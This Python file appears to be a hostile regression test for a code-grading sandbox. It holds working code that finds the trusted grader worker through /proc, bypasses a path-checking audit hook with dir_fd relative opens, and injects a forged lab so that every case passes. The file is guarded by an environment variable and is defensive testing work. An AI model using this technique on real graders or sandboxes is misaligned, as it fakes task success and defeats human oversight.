"""Hostile solution for the print_queue lab: talks to the trusted worker.

Attempts: the instructor's side (the lab, its cases, the expected answers)
runs in a trusted worker, a sibling of the solution's own worker: both are
children of the same `optdemo lab check`, reading requests on fd 3 and
writing answers on fd 4. During its first call this solution
1. lists /proc and finds its sibling: the other process whose parent is its
   own parent and whose command line says "worker";
2. opens the sibling's /proc/<pid>/fd/3 (for writing: the trusted worker's
   request pipe) and /proc/<pid>/fd/4 (for reading: its answer pipe), by a
   relative name with dir_fd=, which an audit hook that checks paths sees
   as a file in the solution's own folder;
3. writes a fake lab into its own folder (every case's expected answer is
   [], a starter that sleeps, a reference no faster than `return []`) and
   sends the trusted worker {"op": "lab", "folder": <the fake lab>}, then
   reads the answer itself, so the host never sees it.
From then on the trusted worker judges every case against the fake lab.
It only ever touches its own check's trusted worker (the same parent), so
that running it never disturbs a check it does not belong to.

Unguarded it would read "pass": right on every case (expected [] each
time) and far faster than a starter that sleeps. If it cannot reach the
trusted worker it returns [], so the verdict is "wrong" on the first case
whose answer is not empty.
Expected verdict: wrong, on EXPECTED_CASE. What should stop it: the
sandbox's own PID namespace and /proc (no sibling is visible), and before
that the trusted worker's separate sandbox; opening another process's
descriptors through /proc is not a path check's business.
Guarded: unless OPTDEMO_HOSTILE_TESTS=1, print_order raises RuntimeError at
once and looks at nothing.
"""

import json
import os
import select

LAB = "print_queue"
EXPECTED = "wrong"
EXPECTED_CASE = "one short job"

REQUEST_FD, ANSWER_FD = 3, 4       # the worker protocol's descriptors

FAKE_LAB = '''
ID = "print_queue"
TITLE = "a forged lab"
LESSON = "queue_popleft"
FUNCTION = "print_order"
SIZES = {"timing": 10, "growth": [10, 20, 40, 80]}
TARGET = {"faster_than_starter": 4, "within_reference": 2.0}


def cases():
    return [("forged %d" % index, ([], 1)) for index in range(200)]


def timing_input(n, seed=0):
    return ([], 1)
'''
FAKE_STARTER = '''
import time


def print_order(jobs, pages_per_turn):
    time.sleep(0.002)              # a starter 1000 times slower than []
    return []
'''
FAKE_REFERENCE = '''
def print_order(jobs, pages_per_turn):
    for _ in range(50):            # a little slower than `return []`
        pass
    return []
'''

attack_done = False                # one attempt per worker is enough


def require_armed():
    if os.environ.get("OPTDEMO_HOSTILE_TESTS") != "1":
        raise RuntimeError("hostile test disarmed: set OPTDEMO_HOSTILE_TESTS=1 to run it")


def parent_of(pid):
    with open("/proc/%d/stat" % pid) as stat:
        return int(stat.read().rsplit(")", 1)[1].split()[1])


def siblings():
    """The other workers of this check: same parent, "worker" in argv."""
    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid():
            continue
        try:
            with open("/proc/%s/cmdline" % name, "rb") as file:
                argv = file.read().split(b"\0")
            if b"worker" in argv and parent_of(int(name)) == os.getppid():
                found.append(int(name))
        except (OSError, ValueError, IndexError):
            continue                # it ended meanwhile, or is not ours to read
    return found


def write_fake_lab():
    folder = os.path.join(os.getcwd(), "fake_lab")   # the solution's own folder
    os.makedirs(folder, exist_ok=True)
    for name, text in (("lab.py", FAKE_LAB), ("starter.py", FAKE_STARTER),
                       ("reference.py", FAKE_REFERENCE)):
        with open(os.path.join(folder, name), "w", encoding="utf-8") as file:
            file.write(text)
    return folder


def read_line(fd, seconds):
    """One line from fd, or None when none comes within `seconds`."""
    data = b""
    while not data.endswith(b"\n"):
        ready, _, _ = select.select([fd], [], [], seconds)
        if not ready:
            return None
        chunk = os.read(fd, 65536)
        if not chunk:
            return None
        data += chunk
    return data


def take_over(pid, folder):
    """Send the trusted worker a forged `lab` request; True if it obeyed."""
    descriptors = os.open("/proc/%d/fd" % pid, os.O_RDONLY | os.O_DIRECTORY)
    try:
        # Relative names with dir_fd: a path check joins "3" to the
        # solution's own folder and sees nothing to refuse.
        requests = os.open(str(REQUEST_FD), os.O_WRONLY, dir_fd=descriptors)
        answers = os.open(str(ANSWER_FD), os.O_RDONLY, dir_fd=descriptors)
    finally:
        os.close(descriptors)
    try:
        os.write(requests, (json.dumps({"op": "lab", "folder": folder}) + "\n").encode())
        answer = read_line(answers, 5)     # read here: the host never sees it
        return answer is not None and json.loads(answer).get("ok") is True
    finally:
        os.close(requests)
        os.close(answers)


def attack():
    folder = write_fake_lab()
    for pid in siblings():
        try:
            if take_over(pid, folder):
                return True
        except (OSError, ValueError):
            continue
    return False


def print_order(jobs, pages_per_turn):
    global attack_done
    require_armed()
    if not attack_done:
        attack_done = True
        try:
            attack()
        except Exception:           # whichever layer refused it, the answer below stands
            pass
    return []                       # right only where the forged lab says so
